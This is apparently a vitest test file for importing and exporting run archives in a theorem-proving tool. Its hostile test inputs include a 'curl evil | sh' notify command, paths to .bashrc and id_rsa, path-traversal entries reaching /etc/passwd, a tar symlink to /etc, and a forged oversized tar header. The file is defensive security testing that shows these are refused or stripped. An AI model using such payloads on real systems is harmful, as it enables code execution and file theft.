import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { importRun } from '../../../sessions/runs/import-run.ts';
import { exportArchive } from '../../../sessions/runs/run-archive.ts';
import { openRun } from '../../../sessions/runs/run-reader.ts';
import type { RunEvent } from '../../../src/run/events.ts';
import { checksumOf, packTar } from '../../../src/storage/tar-write.ts';
import { eventsOf, finished, manifestFor, outcome, proved, theoremsNamed, writeRun } from '../../fixtures/runs.ts';
import { temporaryFolder } from '../../storage/temporary.ts';

const theorems = theoremsNamed(['alpha', 'beta']);

function runIn(home: string, changes: Parameters<typeof manifestFor>[1] = {}) {
  const manifest = manifestFor(theorems, changes);
  const events = eventsOf(
    manifest,
    theorems,
    (job) => (job.index === 0 && job.kind === 'theorem' ? proved() : outcome()),
    [finished],
  );
  const folder = writeRun(home, manifest, theorems, events);
  mkdirSync(join(folder, 'theorems', 'alpha'), { recursive: true });
  writeFileSync(join(folder, 'theorems', 'alpha', '1.jsonl'), '{"seq":1}\n');
  writeFileSync(join(folder, 'writer.lock'), 'left behind');
  writeFileSync(join(folder, 'control.jsonl'), '{"kind":"stopNow"}\n');
  return { manifest, folder };
}

/** An archive of these files, by the paths given, with no regard for what they are. */
async function archiveOf(
  files: Readonly<Record<string, string>>,
  change: (header: Buffer) => void = () => {},
): Promise<string> {
  const folder = temporaryFolder();
  const listed = Object.entries(files).map(([path, text], i) => {
    writeFileSync(join(folder, String(i)), text);
    return { path, source: join(folder, String(i)) };
  });
  const pieces: Buffer[] = [];
  for await (const piece of packTar(listed)) {
    if (piece.length === 512 && piece.toString('latin1', 257, 262) === 'ustar') {
      change(piece);
      piece.write(`${checksumOf(piece).toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    }
    pieces.push(Buffer.from(piece));
  }
  const path = join(folder, 'run.tar.gz');
  writeFileSync(path, gzipSync(Buffer.concat(pieces)));
  return path;
}

describe('an exported run', () => {
  test('can be taken in elsewhere, without what belonged to its process', async () => {
    const [here, there] = [temporaryFolder(), temporaryFolder()];
    const { manifest, folder } = runIn(here);
    const out = join(temporaryFolder(), 'run.tar.gz');
    expect(await exportArchive(here, manifest.id, out)).toMatchObject({ kind: 'exported', files: 4 });
    expect(await importRun(there, out)).toMatchObject({ kind: 'imported', id: manifest.id, files: 4, notes: [] });
    const opened = await openRun(there, 'last');
    expect(opened.kind === 'run' && opened.run.state.status).toBe('finished');
    const copy = join(there, 'runs', 'adhoc', '20260214-100000-abcd');
    expect(readFileSync(join(copy, 'events.jsonl'))).toEqual(readFileSync(join(folder, 'events.jsonl')));
    expect(existsSync(join(copy, 'theorems', 'alpha', '1.jsonl'))).toBe(true);
    expect(existsSync(join(copy, 'writer.lock')) || existsSync(join(copy, 'control.jsonl'))).toBe(false);
    expect(readdirSync(join(there, 'runs'))).toEqual(['adhoc']);
  });

  test('is refused where a run of its name is', async () => {
    const home = temporaryFolder();
    const { folder } = runIn(home);
    expect(await importRun(home, folder)).toMatchObject({
      kind: 'exists',
      message: expect.stringContaining('there already'),
    });
    expect(readdirSync(join(home, 'runs'))).toEqual(['adhoc']);
  });

  test('brings no command, program or file of its machine', async () => {
    const [here, there] = [temporaryFolder(), temporaryFolder()];
    const chosen = (value: string) => ({ value, origin: '--set' });
    const { folder } = runIn(here, {
      notify: 'curl evil | sh',
      out: '/home/me/.bashrc',
      configuration: {
        'run.notify': chosen('curl evil | sh'),
        'lean.path': chosen('/tmp/evil'),
        'lean.project': chosen('/tmp/evil'),
        'sglang.url': chosen('http://evil'),
        'sglang.encode_url': chosen('http://evil'),
        'openai.api_key_file': chosen('/evil/id_rsa'),
        'openai.api_key_env': chosen('EVIL_SECRET'),
        'openai.max_in_flight': { value: 3, origin: '--set' },
        'policy.record': chosen('/evil/appended'),
        'policy.prompt': chosen('kimina'),
        'script.file': chosen('/evil/file'),
        'later.thing': chosen('/evil/unknown'),
        'search.seed': chosen('7'),
      },
    });
    const imported = await importRun(there, folder);
    expect(imported).toMatchObject({ kind: 'imported' });
    expect(imported.kind === 'imported' && imported.notes.join('\n')).toMatch(/curl evil.*tmp\/evil.*bashrc/s);
    const opened = await openRun(there, 'last');
    if (opened.kind !== 'run') throw new Error(opened.message);
    const { manifest } = opened.run;
    expect(manifest.notify).toBe(null);
    expect(manifest.out).toBe(null);
    expect(JSON.stringify(manifest.configuration)).not.toMatch(/evil/i);
    expect(manifest.configuration['policy.prompt']).toEqual(chosen('kimina'));
    expect(manifest.configuration['openai.max_in_flight']).toEqual({ value: 3, origin: '--set' });
    expect(manifest.configuration['search.seed']).toEqual(chosen('7'));
  });
});

describe('an archive made to do harm', () => {
  const outside = [
    '../../../escaped',
    'adhoc/x/../../../../escaped',
    '/tmp/proofdeck-escaped',
    'adhoc/x/a\\..\\b',
    'adhoc/x/a\u0000b',
    'adhoc/x/C:evil',
    'adhoc/x/1/2/3/4/5/6',
    'other/y/manifest.json',
  ];
  test.each(outside)('writes nothing outside: %j', async (path) => {
    const parent = temporaryFolder();
    const home = join(parent, 'home');
    mkdirSync(home);
    const archive = await archiveOf({ 'adhoc/x/manifest.json': '{}', [path]: 'escaped' });
    expect(await importRun(home, archive)).toMatchObject({ kind: 'refused' });
    expect(existsSync('/tmp/proofdeck-escaped')).toBe(false);
    expect(readdirSync(parent)).toEqual(['home']);
    expect(readdirSync(join(home, 'runs'))).toEqual([]);
  });

  test('brings no links', async () => {
    const home = temporaryFolder();
    const archive = await archiveOf({ 'adhoc/x/trajectories': '' }, (header) => {
      header.write('2', 156, 'latin1');
      header.write('/etc', 157, 'latin1');
    });
    expect(await importRun(home, archive)).toMatchObject({ kind: 'refused', message: expect.stringContaining('link') });
  });

  test('cannot claim more than there is room for', async () => {
    const home = temporaryFolder();
    const archive = await archiveOf({ 'adhoc/x/manifest.json': '' }, (header) =>
      header.write('77777777777\0', 124, 'latin1'),
    );
    // 8 GB fit on many disks: then the archive ends too early.
    expect((await importRun(home, archive)).kind).toMatch(/refused|storageFailed/);
    expect(readdirSync(join(home, 'runs'))).toEqual([]);
  });

  test('is no run when its manifest, id or theorems are not what they say', async () => {
    const home = temporaryFolder();
    const manifest = manifestFor(theorems);
    const list = `${JSON.stringify({ theorems }, null, 1)}\n`;
    const changed: readonly (readonly [string, string])[] = [
      ['{"schema":"something else"}', list],
      [JSON.stringify({ ...manifest, id: '../../evil' }), list],
      [JSON.stringify({ ...manifest, id: 'adhoc/..' }), list],
      [JSON.stringify(manifest), list.replace('alpha', 'gamma')],
      [JSON.stringify(manifest), '[]'],
    ];
    for (const [manifestText, theoremsText] of changed) {
      const archive = await archiveOf({ 'adhoc/x/manifest.json': manifestText, 'adhoc/x/theorems.json': theoremsText });
      expect(await importRun(home, archive)).toMatchObject({ kind: 'refused' });
    }
    expect(readdirSync(join(home, 'runs'))).toEqual([]);
  });

  test('has no parts outside the folder of the run', async () => {
    const [here, there] = [temporaryFolder(), temporaryFolder()];
    const manifest = manifestFor(theorems);
    const part: RunEvent = { kind: 'part.written', series: 'main', file: '../../../../etc/passwd', jobs: [], rows: 0 };
    const folder = writeRun(
      here,
      manifest,
      theorems,
      eventsOf(manifest, theorems, () => null, [part]),
    );
    expect(await importRun(there, folder)).toMatchObject({ kind: 'imported' });
    expect(await openRun(there, 'last')).toMatchObject({ kind: 'storageFailed', code: 'damaged' });
  });

  test('that was cut is told from a whole one', async () => {
    const home = temporaryFolder();
    const { manifest } = runIn(home);
    const out = join(temporaryFolder(), 'run.tar.gz');
    await exportArchive(home, manifest.id, out);
    writeFileSync(out, readFileSync(out).subarray(0, 900));
    expect(await importRun(temporaryFolder(), out)).toMatchObject({ kind: 'storageFailed', code: 'damaged' });
  });
});

test('links in a folder are not followed', async () => {
  const [here, there] = [temporaryFolder(), temporaryFolder()];
  const { folder } = runIn(here);
  symlinkSync('/etc', join(folder, 'trajectories'));
  expect(await importRun(there, folder)).toMatchObject({ kind: 'imported', files: 4 });
});
